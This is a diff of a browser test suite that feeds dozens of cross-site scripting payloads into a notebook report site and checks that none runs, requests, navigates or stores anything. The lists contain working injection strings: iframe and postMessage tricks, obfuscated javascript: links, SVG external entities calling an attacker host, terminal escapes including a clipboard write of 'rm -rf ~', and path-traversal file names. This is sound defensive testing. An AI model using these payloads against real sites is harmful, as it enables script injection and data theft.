@@ -1,12 +1,14 @@
 """Whatever a notebook writes, none of it runs in the site, asks for anything, or reaches what the site stores."""
 
+from collections.abc import Iterator
+from contextlib import contextmanager
 from pathlib import Path
 from typing import Any
 
 import pytest
-from playwright.sync_api import Browser
+from playwright.sync_api import Browser, Frame, Page
 
-from tests.reporting.browser.conftest import Opened, publish
+from tests.reporting.browser.conftest import Opened, publish, served
 from tests.reporting.fabricate import Fabric, Made, code, markdown, notebook
 
 pytestmark = pytest.mark.chromium
@@ -68,8 +70,44 @@ NAMES = [
     "');alert(1)//\\\u2028\u2029",
     "${alert(1)}{{constructor.constructor('alert(1)')()}}",
 ]
-PAYLOADS = [*HTML, *MARKDOWN, *NAMES]
-assert len(set(PAYLOADS)) >= 40
+POSTED = f"postMessage('<script>{STEAL}<\\/script>','*')"
+FRAMES = [
+    f'<iframe name=nbdag src="frame.html" onload="this.contentWindow.{POSTED}"></iframe>',
+    f"<iframe src='data:text/html,<script>{STEAL}</script>'></iframe><frameset><frame src='javascript:{STEAL}'>",
+    f"<script>parent.postMessage('nbdag frame is ready','*');parent.location='javascript:{STEAL}'</script>",
+    f"<script>open('frame.html').onload=function(){{this.{POSTED}}}</script>",
+    f"<script>top.location='{EVIL}';parent.nbdag.load('index','[]');parent.document.body.remove()</script>",
+    f"<portal src='{EVIL}'></portal><iframe sandbox='allow-scripts allow-same-origin' src=index.html></iframe>",
+]
+LINKS = [
+    f'<a href="java&#115;cript&colon;{STEAL}" target=_self>entities</a><a href="\x00javascript:{STEAL}">null</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg==" download=x.html>data</a>',
+    f'<a href="blob:{EVIL}1" ping="{EVIL}">blob</a><a href="filesystem:{EVIL}x">f</a><a href="file:///x">p</a>',
+    f'<a href="#/run/x" onclick="{STEAL}" style="position:fixed;inset:0" accesskey=x>over the page</a>',
+]
+MARKED = [
+    f'```mermaid\ngraph TD; A["<img src=x onerror={STEAL}>"] --> B; click A "javascript:{STEAL}"\n```',
+    f"%%{{init: {{'securityLevel': 'loose'}}}}%%\nsequenceDiagram\nA->>B: <script>{STEAL}</script>",
+    f"![x](javascript:{STEAL}) ![y](data:image/svg+xml,<svg/onload={STEAL}>) <https://a'onclick={STEAL}>",
+    f"<div>\n\n[a](&#106;avascript:{STEAL})\n\n| <script>{STEAL}</script> |\n|---|\n| [b](vbscript:x) |",
+]
+SVG = [
+    f'<svg><set attributeName="href" to="javascript:{STEAL}"/><a href="?"><text>x</text></a></svg>',
+    f'<?xml-stylesheet href="javascript:{STEAL}"?><!DOCTYPE svg [<!ENTITY x SYSTEM "{EVIL}">]><svg>&x;</svg>',
+    f'<svg><style>@import "{EVIL}x.css";</style><handler type="text/javascript">{STEAL}</handler></svg>',
+]
+TERMINAL = [
+    f"\x1b]8;;javascript:{STEAL}\x07click\x1b]8;;\x07\x1b]52;c;cm0gLXJmIH4=\x07\x1b]0;title\x07",
+    f"\x1b[31m<img src=x onerror={STEAL}>\x1b[999;999H\x1b[2J\x9b31m\x90q\x9c\x1bP+q\x1b\\",
+    '\r\x1b[38;5;"><script>top.pwned=1</script>m\x1b[38;2;1;1m\x08\x08\u202e\u2066',
+]
+FILES = [
+    "a/../../index.html",
+    "con\x00.html\n<script>top.pwned=1</script>.png",
+    "x.png?y=<svg onload=top.pwned=1>#z",
+]
+PAYLOADS = [*HTML, *MARKDOWN, *NAMES, *FRAMES, *LINKS, *MARKED, *SVG, *TERMINAL, *FILES]
+assert len(set(PAYLOADS)) >= 60
 PAGES = [
     "",
     "#/runs?different=1",
@@ -88,6 +126,10 @@ PAGES = [
     "#/compare?runs=run-00001,run-00002&view=charts",
     "#/history",
 ]
+SHOWING_ALL = [page for page in PAGES if page.endswith(("/task/page", "view=results", "view=notebooks&task=page"))]
+"""The pages that show every payload in every kind of output."""
+VISITS = [("file", page) for page in PAGES]
+VISITS += [(where, page) for where in ("host", "foreign") for page in ("", *SHOWING_ALL)]
 
 
 def everywhere(payload: str) -> list[dict[str, Any]]:
@@ -152,28 +194,71 @@ def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
     return publish(hostile(Fabric(root)), root / "site")
 
 
+STATE = """() => {
+    let stored = []
+    try { stored = Object.keys(localStorage) } catch {}  // a frame of another origin has none
+    return [window.pwned, stored, ({}).polluted]
+}"""
+CLEAN: list[Any] = [None, [], None]
+HARMFUL = ", ".join(
+    f"main {element}"
+    for element in ("script", "iframe:not(.sandbox)", "[onerror]", "[onload]", "[onclick]", "[style*=fixed]")
+)
+ADDRESSES = """() => Array.from(document.querySelectorAll("main a, main area, main use, main img"),
+    one => one.href?.baseVal ?? one.href ?? one.src)"""
+
+
+@contextmanager
+def inside(foreign: Path, framed: str) -> Iterator[str]:
+    """Serve a page of another origin that embeds an address, and give the page's own."""
+    foreign.mkdir(exist_ok=True)
+    (foreign / "index.html").write_text(
+        f"<!doctype html><link rel=icon href=data:,><iframe src='{framed}' width=1200 height=800></iframe>"
+    )
+    with served(foreign) as base:
+        yield base.replace("127.0.0.1", "localhost")
+
+
+@contextmanager
+def opened_from(where: str, page: Page, site: Path, address: str) -> Iterator[tuple[Frame, str, Opened]]:
+    """Open an address of a site as a file, from a static host, or inside a page of another origin."""
+    if where == "file":
+        opened = Opened(page, f"file://{site}/")
+        yield opened.go(address).main_frame, opened.base, opened
+        return
+    with served(site) as base:
+        if where == "host":
+            opened = Opened(page, base)
+            yield opened.go(address).main_frame, base, opened
+            return
+        with inside(site.parent / "foreign", f"{base}index.html{address}") as foreign:
+            opened = Opened(page, base, foreign)
+            page.goto(foreign)
+            [frame] = page.main_frame.child_frames
+            frame.wait_for_selector("main h1")
+            frame.wait_for_function("() => !document.querySelector('.loading')")
+            yield frame, base, opened
+
+
 @pytest.mark.slow
-@pytest.mark.parametrize("address", PAGES)
-def test_no_payload_runs_asks_or_stores(browser: Browser, hostile_site: Path, address: str) -> None:
+@pytest.mark.parametrize(("where", "address"), VISITS)
+def test_no_payload_runs_asks_or_stores(browser: Browser, hostile_site: Path, address: str, where: str) -> None:
     """On every page, with every frame opened: no script, no dialog, no request, no navigation, no storage."""
     context = browser.new_context()
     page = context.new_page()
-    opened = Opened(page, f"file://{hostile_site}/")
-    opened.go(address)
-    buttons = page.get_by_role("button", name="runs its script in a sandbox")
-    for _ in range(buttons.count()):
-        buttons.first.click()
-    frames = [frame for frame in page.frames if frame.parent_frame is page.main_frame]
-    for frame in frames:
-        frame.wait_for_load_state()
-    expected = f"file://{hostile_site}/index.html"
-    assert page.url.partition("#")[0] == expected
-    assert page.evaluate("[window.pwned, Object.keys(localStorage), ({}).polluted]") == [None, [], None]
-    assert page.locator("main script, main iframe:not(.sandbox), main [onerror], main [onload]").count() == 0
-    assert page.locator("main a[href^='javascript']").count() == 0
-    assert page.locator("main a[href^='data:text']").count() == 0
-    # that the browser says what it refused is fine
-    assert [said for said in opened.said if said.startswith(("dialog:", "request:"))] == []
+    with opened_from(where, page, hostile_site, address) as (site, base, opened):
+        buttons = site.get_by_role("button", name="runs its script in a sandbox")
+        for _ in range(buttons.count()):
+            buttons.first.click()
+        for frame in site.child_frames:
+            frame.wait_for_load_state()
+        assert site.url.partition("#")[0] == f"{base}index.html"
+        assert [site.evaluate(STATE), page.evaluate(STATE), len(context.pages)] == [CLEAN, CLEAN, 1]
+        assert site.locator(HARMFUL).count() == 0
+        own = (base, "https:", "http:", "mailto:", "data:image/", "#")
+        assert [address for address in site.evaluate(ADDRESSES) if address and not address.startswith(own)] == []
+        # that the browser says what it refused is fine
+        assert [said for said in opened.said if said.startswith(("dialog:", "request:"))] == []
     context.close()
 
 
